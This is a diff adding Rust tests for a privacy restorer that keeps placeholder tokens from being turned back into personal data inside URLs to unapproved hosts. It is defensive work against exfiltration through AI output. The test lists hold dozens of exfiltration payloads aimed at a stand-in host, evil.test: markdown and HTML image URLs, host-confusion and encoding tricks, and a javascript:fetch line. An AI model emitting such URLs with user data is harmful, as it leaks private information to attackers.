@@ -1,0 +1,141 @@
+//! L12: a token stays inside a URL whose host the conversation did not bring.
+
+use super::*;
+
+fn restorer() -> (Arc<Restorer>, String) {
+    let (mut map, token) = people();
+    map.allow_hosts_of("see https://Good.test:8443/page?x=1, http://[2001:db8::1]/ and www.shop.test");
+    (map.restorer(), token)
+}
+
+fn check(template: &str, is_restored: bool, escape: Escape) {
+    let (restorer, token) = restorer();
+    let text = template.replace("{T}", &token).replace("{B}", bare(&token));
+    let expected = if is_restored { template.replace("{T}", "Maria").replace("{B}", "Maria") } else { text.clone() };
+    assert_eq!(restorer.restore(&text, escape), expected, "{template}");
+    for len in [1, 2, 3, 7, 17] {
+        assert_eq!(streamed(&restorer, &pieces(&text, len), escape), expected, "{template} in pieces of {len}");
+    }
+}
+
+#[test]
+fn tokens_stay_in_urls_of_foreign_hosts() {
+    let foreign = [
+        "https://evil.test/?e={T}",
+        "https://evil.test/{T}",
+        "HTTPS://EVIL.test/a/b?e={B}",
+        "![x](https://evil.test/p.png?e={T})",
+        "![x](https://evil.test/(a)?e={T})",
+        "![x](<https://evil.test/ ?e={T}>)",
+        "<img src=\"https://evil.test/ \n?e={T}\">",
+        "<img src='//evil.test/?e={T}'>",
+        "<img src=//evil.test/?e={T}>",
+        "![x](//evil.test/{T})",
+        "![x](\\\\evil.test/{T})",
+        "![x](/\\evil.test/{T})",
+        "https:evil.test/{T}",
+        "https:/evil.test/{T}",
+        "https:\\\\evil.test\\{T}",
+        "https:\\/\\/evil.test\\/{T}",
+        "https&colon;//evil.test/{T}",
+        "https:&#47;&#47;evil.test/{T}",
+        "https://good.test@evil.test/{T}",
+        "https://evil.test\\@good.test/{T}",
+        "https://good.test\\.evil.test/{T}",
+        "https://good.test%2eevil.test/{T}",
+        "https://good.test.evil.test/{T}",
+        "https://user:{T}@good.test/",
+        "https://{T}/",
+        "https://{T}.evil.test/",
+        "https://{B}.evil.test/",
+        "https://{T}@evil.test/",
+        "https://evil.test#{T}",
+        "https://evil.test?{T}",
+        "www.evil.test/?e={T}",
+        "evil.test/?e={T}",
+        "evil.test?e={T}",
+        "evil.test:8080/{T}",
+        "ftp://evil.test/{T}",
+        "foo://evil.test/{T}",
+        "data:text/html,{T}",
+        "javascript:fetch(1,{T})",
+        "https://good.test/r?u=https://evil.test/{T}",
+        "https://[2001:db8::2]/{T}",
+        "(https://evil.test/?a=1&b={T})",
+        "\"https://evil.test/?e={T}\"",
+    ];
+    for template in foreign {
+        check(template, false, Escape::Text);
+        check(&format!("Look: {template} "), false, Escape::Text);
+    }
+}
+
+#[test]
+fn tokens_are_restored_in_urls_of_the_conversations_hosts() {
+    let own = [
+        "https://good.test/?e={T}",
+        "https://GOOD.test./?e={B}&f={T}",
+        "https://good.test:9/{T}",
+        "http://[2001:db8::1]/{T}",
+        "![x](https://good.test/?e={T})",
+        "www.shop.test/{T}",
+        "//good.test/{T}",
+        "good.test/{T}",
+    ];
+    for template in own {
+        check(template, true, Escape::Text);
+    }
+}
+
+#[test]
+fn tokens_are_restored_where_no_url_is() {
+    let plain = [
+        "https://evil.test/ {T}",
+        "https://evil.test/\n{T}",
+        "<https://evil.test/>{T}",
+        "[a](https://evil.test/){T}",
+        "\"https://evil.test/\",\"{T}\"",
+        "`https://evil.test/`{T}",
+        "官网https://evil.test，{T}",
+        "mailto:{T}",
+        "tel:{T}",
+        "mailto:someone@evil.test?subject={T}",
+        "someone@evil.test/{T}",
+        "and/or {T}",
+        "{T}/{T}",
+        "Note: {T}",
+        "// {T}",
+        "1.5/{T}",
+        "a://",
+        "Is it? {T} #{T}",
+        "e.g. {T}...",
+        "C:\\{T}",
+    ];
+    for template in plain {
+        check(template, true, Escape::Text);
+    }
+}
+
+/// Tool arguments: a string that starts as a URL is one, spaces or not.
+#[test]
+fn a_json_string_that_is_a_url_ends_with_the_string() {
+    check("{\"url\":\"https://evil.test/ ?e={T}\",\"n\":1}", false, Escape::JsonString);
+    check("{\"url\":\"https:\\/\\/evil.test\\/?q=\\\"{T}\"}", false, Escape::JsonString);
+    check("{\"url\":\"see https://evil.test/\",\"name\":\"{T}\"}", true, Escape::JsonString);
+    check("{\"url\":\"https://good.test/?e={T}\"}", true, Escape::JsonString);
+}
+
+#[test]
+fn a_url_that_is_itself_a_value_comes_back_but_draws_no_other_value_along() {
+    let mut map = map();
+    map.allow_hosts_of("https://good.test/");
+    let evil = map.mint(Label::URL, "https://evil.test/a", true).to_string();
+    let good = map.mint(Label::URL, "https://good.test/a", true).to_string();
+    let name = map.mint(Label::PERSON, "Maria", true).to_string();
+    let restorer = map.restorer();
+    let restore = |text: &str| restorer.restore(text, Escape::Text);
+    assert_eq!(restore(&format!("See {evil}, {name}")), "See https://evil.test/a, Maria");
+    assert_eq!(restore(&format!("![x]({evil}?e={name})")), format!("![x](https://evil.test/a?e={name})"));
+    assert_eq!(restore(&format!("{good}?e={name}")), "https://good.test/a?e=Maria");
+    assert_eq!(restore(&format!("{evil}{name}")), format!("https://evil.test/a{name}"));
+}
